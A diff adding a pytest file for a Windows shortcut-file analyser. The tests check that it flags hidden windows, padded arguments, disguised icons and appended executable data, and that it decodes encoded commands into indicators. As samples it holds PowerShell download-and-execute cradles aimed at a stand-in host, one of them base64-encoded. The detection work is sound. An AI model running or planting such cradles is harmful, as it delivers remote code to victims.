@@ -1,0 +1,111 @@
+"""Shortcuts: what they start and how they hide it; every part optional, damage a finding."""
+
+from __future__ import annotations
+
+import base64
+import io
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from svc.assistant.findings import Finding, Gap, Yielded
+from svc.assistant.skills.shortcut import answer as section
+from svc.assistant.skills.shortcut.tool import inspect
+from tests.support import office_files as made
+
+POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+CRADLE = "-w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://evil-host.top/a')"
+
+
+def run(data: bytes, name: str = "a.lnk") -> list[Yielded]:
+    return list(inspect(io.BytesIO(data), source=name))
+
+
+def found(data: bytes, name: str = "a.lnk") -> list[Finding]:
+    return [item for item in run(data, name) if isinstance(item, Finding)]
+
+
+def traits(data: bytes, name: str = "a.lnk") -> set[str]:
+    return {
+        str(f.attributes["trait"]) for f in found(data, name) if f.kind == "shortcut_trait" and f.severity != "info"
+    }
+
+
+def verdict(data: bytes, name: str = "a.lnk") -> str:
+    return next(str(f.attributes["verdict"]) for f in found(data, name) if f.kind == "shortcut_verdict")
+
+
+def test_a_shortcut_to_a_program_is_ordinary_and_tells_its_target():
+    data = made.shortcut("C:\\Program Files\\Editor\\editor.exe")
+    [facts] = [f for f in found(data) if f.kind == "shortcut_facts"]
+    assert facts.attributes["target"] == "C:\\Program Files\\Editor\\editor.exe"
+    assert facts.attributes["created"] == "2024-01-17T21:20:00Z"
+    assert verdict(data) == "ordinary"
+
+
+TRAITS = {
+    "a shell with arguments": (made.shortcut(POWERSHELL, CRADLE), "starts_shell"),
+    "arguments out of sight": (made.shortcut(POWERSHELL, " " * 300 + CRADLE), "padded_arguments"),
+    "long arguments": (made.shortcut(POWERSHELL, "-c " + "Get-Date; " * 40), "long_arguments"),
+    "a document's icon": (made.shortcut(POWERSHELL, CRADLE, icon="C:\\Reader\\AcroRd32.exe"), "disguised"),
+    "an icon on a share": (made.shortcut("C:\\a.exe", icon="\\\\45.9.148.3\\s\\a.ico"), "remote_icon"),
+    "a minimised window": (made.shortcut(POWERSHELL, CRADLE, window=7), "hidden_window"),
+    "a program behind a program": (
+        made.shortcut("C:\\Windows\\explorer.exe", "/root,cmd.exe /c calc"),
+        "arguments_start_program",
+    ),
+    "data behind it": (made.shortcut(POWERSHELL, CRADLE, extra=b"MZ" + bytes(400)), "appended"),
+}
+
+
+@pytest.mark.parametrize(("data", "trait"), TRAITS.values(), ids=TRAITS)
+def test_what_it_does_is_told(data: bytes, trait: str):
+    assert trait in traits(data)
+
+
+def test_a_document_by_its_name_is_disguised():
+    assert "disguised" in traits(made.shortcut(POWERSHELL, CRADLE), "invoice.pdf.lnk")
+
+
+def test_a_cradle_in_disguise_is_malicious_and_shown_whole():
+    data = made.shortcut(POWERSHELL, CRADLE, icon="C:\\Reader\\AcroRd32.exe", window=7)
+    items = found(data)
+    assert verdict(data) == "malicious"
+    assert CRADLE in section.SECTION.body(items)
+    assert "http://evil-host.top/a" in {f.attributes.get("value") for f in items if f.kind == "indicator"}
+
+
+def test_an_encoded_command_is_decoded_and_its_address_is_an_indicator():
+    encoded = base64.b64encode("IEX (iwr http://evil-host.top/b.ps1)".encode("utf-16-le")).decode()
+    items = found(made.shortcut(POWERSHELL, f"-w hidden -enc {encoded}"))
+    assert "decoded code" in {f.attributes.get("part") for f in items}
+    assert "http://evil-host.top/b.ps1" in {f.attributes.get("value") for f in items if f.kind == "indicator"}
+
+
+def test_a_date_that_no_calendar_has_is_left_out():
+    data = bytearray(made.shortcut(POWERSHELL))
+    data[28:36] = (2_999_999_999_999_999_999).to_bytes(8, "little")
+    [facts] = [item for item in found(bytes(data)) if item.kind == "shortcut_facts"]
+    assert facts.attributes["created"] is None
+
+
+def test_what_is_no_shortcut_is_a_gap():
+    items = run(b"[InternetShortcut]")
+    assert not [item for item in items if isinstance(item, Finding)]
+    assert any(isinstance(item, Gap) for item in items)
+
+
+def test_a_shortcut_cut_anywhere_still_gets_a_verdict():
+    data = made.shortcut(POWERSHELL, CRADLE, icon="a.ico")
+    for end in range(20, len(data), 7):
+        assert verdict(data[:end])
+
+
+@settings(max_examples=80, deadline=None)
+@given(st.lists(st.tuples(st.integers(20, 400), st.integers(0, 255)), max_size=10), st.binary(max_size=200))
+def test_changed_bytes_never_raise(changes: list[tuple[int, int]], more: bytes):
+    data = bytearray(made.shortcut(POWERSHELL, CRADLE, icon="a.ico", extra=more))
+    for position, value in changes:
+        data[position % len(data) if position % len(data) > 20 else 20] = value
+    section.SECTION.body(found(bytes(data)))
